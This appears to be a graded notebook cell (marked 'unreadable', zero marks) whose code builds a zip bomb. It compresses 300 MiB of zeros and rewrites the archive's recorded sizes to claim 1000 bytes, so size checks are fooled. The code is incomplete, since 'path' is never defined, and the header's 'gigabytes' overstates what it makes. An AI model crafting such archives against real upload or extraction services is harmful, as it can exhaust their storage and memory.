# %% [markdown]
# ---
# what: "A zip that says it holds a kilobyte and unpacks to gigabytes"
# status: unreadable
# marks: 0
# ---

# %% handed in
import bz2
import io
import zipfile

content = io.BytesIO()
with zipfile.ZipFile(content, "w", zipfile.ZIP_BZIP2) as archive:
    archive.writestr("zip-bomb.ipynb", bytes(300 << 20))
# The size stands in the entry before the file and in the list at the end.
lying = content.getvalue().replace((300 << 20).to_bytes(4, "little"), (1000).to_bytes(4, "little"))
path.with_suffix(".zip").write_bytes(lying)
